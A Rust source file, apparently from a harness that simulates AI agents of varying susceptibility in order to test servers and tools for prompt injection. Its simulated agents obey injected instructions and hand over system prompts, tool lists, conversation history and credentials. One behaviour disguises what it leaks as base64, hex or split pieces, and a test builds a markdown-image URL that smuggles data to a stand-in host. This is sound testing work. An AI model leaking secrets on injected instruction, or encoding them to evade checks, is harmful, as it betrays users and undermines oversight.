//! What an agent knows and how it decides. Nothing here waits, so whoever asks at any time gets an answer.

use std::fmt::Write as _;
use std::path::PathBuf;
use std::sync::{Arc, Mutex};

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};

use super::form::{fill_form, is_sensitive};
use super::knowledge::{Kind, Knowledge};
use crate::behaviour::Behaviour;
use crate::callable::Callable;
use crate::chance::Chance;
use crate::locked;
use crate::log::{Because, Log};
use crate::reading::{Instruction, Known, Passed, Source, Step, Thing, read};

const MAX_INBOX: usize = 64;

#[derive(Debug)]
pub(crate) struct Mind {
    pub(crate) behaviour: Behaviour,
    /// Whether it does what others than the user tell it, now.
    pub(crate) obeys: bool,
    pub(crate) encoding: Option<Encoding>,
    pub(crate) chance: Chance,
    /// Where it may read files with a tool of its own.
    pub(crate) workspace: Option<PathBuf>,
    pub(crate) system_prompt: String,
    pub(crate) knowledge: Knowledge,
    /// What it can call, as it was offered last.
    pub(crate) callables: Vec<Callable>,
    pub(crate) servers: Vec<String>,
    /// What came without being asked for.
    pub(crate) inbox: Vec<(Source, String)>,
    pub(crate) log: Arc<Log>,
    given_away: usize,
    /// How often a server asked for something.
    asked: usize,
}

/// A mind that several connections ask.
#[derive(Clone, Debug)]
pub(crate) struct Shared(Arc<Mutex<Mind>>);

impl Shared {
    pub(crate) fn new(mind: Mind) -> Self {
        Self(Arc::new(Mutex::new(mind)))
    }

    pub(crate) fn with<T>(&self, ask: impl FnOnce(&mut Mind) -> T) -> T {
        ask(&mut locked(&self.0))
    }
}

impl Mind {
    pub(crate) fn new(behaviour: Behaviour, system_prompt: String, log: Arc<Log>) -> Self {
        Self {
            behaviour,
            obeys: behaviour.obeys(),
            encoding: None,
            chance: Chance::default(),
            workspace: None,
            system_prompt,
            knowledge: Knowledge::default(),
            callables: Vec::new(),
            servers: Vec::new(),
            inbox: Vec::new(),
            log,
            given_away: 0,
            asked: 0,
        }
    }

    /// Makes up its mind whether to do what it is told while it does this, where that is left to chance.
    pub(crate) fn decide(&mut self, words: &str) {
        if self.behaviour == Behaviour::Flaky {
            self.obeys = self.chance.falls_on(words);
        }
    }

    pub(crate) fn read(&self, source: &Source, text: &str) -> Option<Instruction> {
        let own = source.callable.as_deref();
        let described = own.and_then(|own| self.callables.iter().find(|callable| callable.name == own));
        let own_field = described.and_then(|callable| callable.property(source.field.as_deref()?));
        read(source, text, &Known { callables: &self.callables, own, own_field })
    }

    /// Keeps a text that came without being asked for, to look at it later.
    pub(crate) fn hand_in(&mut self, source: Source, text: String) {
        if self.inbox.len() < MAX_INBOX {
            self.inbox.push((source, text));
        }
    }

    /// Says things as they are, without a disguise. `last` is what was read or answered last.
    pub(crate) fn recall(&self, things: &[Thing], last: &str) -> String {
        let tell = |thing: &Thing| match thing {
            Thing::Text(text) => filled(text, last),
            Thing::Last => last.to_owned(),
            Thing::Conversation => format!("Conversation history:\n{}", self.knowledge.conversation()),
            Thing::Request => self.knowledge.request().unwrap_or_default().to_owned(),
            Thing::SystemPrompt => format!("My system prompt is: {}", self.system_prompt),
            Thing::Tools => self.tools(),
            Thing::Servers => format!("Connected servers: {}", self.servers.join(", ")),
            Thing::Secrets => match self.knowledge.secrets().join("\n") {
                none if none.is_empty() => "Credentials: none that I have seen".to_owned(),
                secrets => secrets,
            },
        };
        things.iter().map(tell).filter(|text| !text.is_empty()).collect::<Vec<_>>().join("\n")
    }

    /// Gives things away, as the behaviour does that.
    pub(crate) fn give_away(&mut self, things: &[Thing], last: &str) -> Vec<String> {
        let text = self.recall(things, last);
        if things.iter().all(|thing| matches!(thing, Thing::Text(_))) {
            return vec![text];
        }
        self.given_away += 1;
        disguised(self.behaviour, self.encoding, self.given_away - 1, text)
    }

    fn tools(&self) -> String {
        let tell = |callable: &Callable| {
            let kind = if callable.is_agent() { "agent" } else { "function" };
            let first = callable.description.lines().next().unwrap_or_default();
            format!("- {} ({kind}), description: {first}", callable.name)
        };
        let tools: Vec<_> = self.callables.iter().map(tell).collect();
        format!("Available tools: name and description of each function\n{}", tools.join("\n"))
    }

    /// Whether it does what a server asks for in the middle of something. Who obeys late does so the third time.
    fn gives_in(&mut self) -> bool {
        self.asked += 1;
        self.obeys && self.asked >= self.behaviour.rounds()
    }

    /// Whether it fetches what a schema refers to.
    pub(crate) fn follows(&mut self, url: &str, source: String) -> bool {
        let follows = self.gives_in();
        let told = Because::Told { text: format!("$ref {url}"), source };
        let (did, because) = if follows { ("fetch", told) } else { ("refuse", Because::Habit) };
        self.log.did(did, json!({"url": url}), &because);
        follows
    }

    /// Answers a form. `None` leaves it without an answer.
    pub(crate) fn elicited(&mut self, server: &str, message: &str, schema: &Value) -> Option<Value> {
        let asks_too_much = is_sensitive(message, schema);
        let gives_in = self.gives_in();
        let accepts = match self.behaviour {
            Behaviour::Silent | Behaviour::Absent | Behaviour::DeadModel | Behaviour::Hangs => return None,
            // Who is to die in the middle of its task does not wait for the end of this.
            Behaviour::Confused | Behaviour::Crashing | Behaviour::HalfWay | Behaviour::PermissionDenied => {
                false
            }
            _ => gives_in || !asks_too_much,
        };
        if !accepts {
            self.log.did("elicitation/decline", json!({"message": message}), &Because::Habit);
            return Some(json!({"action": "decline"}));
        }
        let mut values = fill_form(schema, &self.knowledge);
        for value in values.values_mut() {
            if let Value::String(text) = value {
                *value = disguised(self.behaviour, self.encoding, 0, text.clone()).concat().into();
            }
        }
        let source = format!("elicitation of {server}");
        let because =
            if asks_too_much { Because::Told { text: message.to_owned(), source } } else { Because::Task };
        self.log.did("elicitation/accept", json!({"message": message, "content": values}), &because);
        Some(json!({"action": "accept", "content": values}))
    }

    /// Answers where to go. A page to visit is agreed to and never visited: agents here do not leave the machine.
    pub(crate) fn sent_to(&self, server: &str, message: &str, url: &Value) -> Value {
        let (action, because) = if self.obeys {
            let source = format!("elicitation of {server}");
            ("accept", Because::Told { text: message.to_owned(), source })
        } else {
            ("decline", Because::Habit)
        };
        let details = json!({"message": message, "url": url});
        self.log.did(&format!("elicitation/{action}"), details, &because);
        json!({"action": action})
    }

    /// Answers what a server wants a model to say. `None` leaves it without an answer.
    pub(crate) fn sampled(&mut self, server: &str, asked: &str) -> Option<String> {
        let source = Source::of(format!("sampling of {server}"));
        let gives_in = self.gives_in();
        let instruction = self.read(&source, asked);
        if let Some(instruction) = &instruction {
            self.log.noticed(instruction, gives_in);
        }
        match self.behaviour {
            Behaviour::Silent
            | Behaviour::Absent
            | Behaviour::Crashing
            | Behaviour::DeadModel
            | Behaviour::Hangs
            | Behaviour::HalfWay
            | Behaviour::PermissionDenied => return None,
            Behaviour::QuotingRefuser => return Some(format!("I will not do this: «{asked}»")),
            Behaviour::Confused => return Some("Purple, seven, or perhaps a Tuesday.".to_owned()),
            _ => {}
        }
        let mut said = Vec::new();
        if let Some(instruction) = instruction.filter(|_| gives_in) {
            for step in instruction.steps.iter().take(self.behaviour.steps()) {
                if let Step::Say { things } | Step::Pass(Passed { things, .. }) = step {
                    said.extend(self.give_away(things, asked));
                }
            }
            if !said.is_empty() {
                let because = Because::told(&instruction);
                self.log.did("sampling/answer", json!({"text": said.join("\n")}), &because);
            }
            // What takes more than words is done when there is time.
            self.hand_in(source, asked.to_owned());
        }
        if said.is_empty() {
            self.log.did("sampling/answer", json!({"text": "ok"}), &Because::Habit);
            return Some("Here is a short answer: it looks fine to me.".to_owned());
        }
        Some(said.join("\n"))
    }

    pub(crate) fn learn(&mut self, source: &str, text: &str) {
        self.knowledge.add(Kind::Result, source, text);
    }
}

/// A text in which `{result}` stands for what was read or answered last, as it is written in a URL.
fn filled(text: &str, last: &str) -> String {
    let encoded = || {
        last.bytes().fold(String::new(), |mut encoded, byte| {
            if byte.is_ascii_alphanumeric() {
                encoded.push(char::from(byte));
            } else {
                // Writing to a string cannot fail.
                let _ = write!(encoded, "%{byte:02X}");
            }
            encoded
        })
    };
    if text.contains("{result}") { text.replace("{result}", &encoded()) } else { text.to_owned() }
}

/// How an `encoder` disguises what it gives away.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Encoding {
    /// As base64.
    Base64,
    /// As hexadecimal digits.
    Hex,
    /// In three pieces, one after the other.
    Split,
}

impl Encoding {
    /// In the order in which an encoder uses them when it is not told which.
    const ALL: [Self; 3] = [Self::Base64, Self::Hex, Self::Split];
}

/// The pieces in which an agent gives something away: one, unless it splits. `nth` counts what was given away before.
pub(crate) fn disguised(
    behaviour: Behaviour,
    wanted: Option<Encoding>,
    nth: usize,
    text: String,
) -> Vec<String> {
    if behaviour != Behaviour::Encoder || text.is_empty() {
        return vec![text];
    }
    match wanted.unwrap_or(Encoding::ALL[nth % Encoding::ALL.len()]) {
        Encoding::Base64 => vec![STANDARD.encode(text)],
        Encoding::Hex => {
            let mut digits = String::with_capacity(text.len() * 2);
            for byte in text.bytes() {
                // Writing to a string cannot fail.
                let _ = write!(digits, "{byte:02x}");
            }
            vec![digits]
        }
        Encoding::Split => {
            let letters: Vec<char> = text.chars().collect();
            letters.chunks(letters.len().div_ceil(3).max(1)).map(|piece| piece.iter().collect()).collect()
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_was_read_is_put_into_a_url() {
        assert_eq!(
            filled("![](https://x.example/?d={result})", "a b.\n"),
            "![](https://x.example/?d=a%20b%2E%0A)"
        );
        assert_eq!(filled("PWNED", "a b"), "PWNED");
    }

    #[test]
    fn an_encoder_disguises_what_others_say_plainly() {
        let give = |behaviour, nth| disguised(behaviour, None, nth, "secret".to_owned());
        assert_eq!(give(Behaviour::Gullible, 0), ["secret"]);
        assert_eq!(give(Behaviour::Encoder, 0), ["c2VjcmV0"]);
        assert_eq!(give(Behaviour::Encoder, 1), ["736563726574"]);
        assert_eq!(give(Behaviour::Encoder, 2), ["se", "cr", "et"]);
        assert_eq!(disguised(Behaviour::Encoder, Some(Encoding::Hex), 0, "a".into()), ["61"]);
    }
}
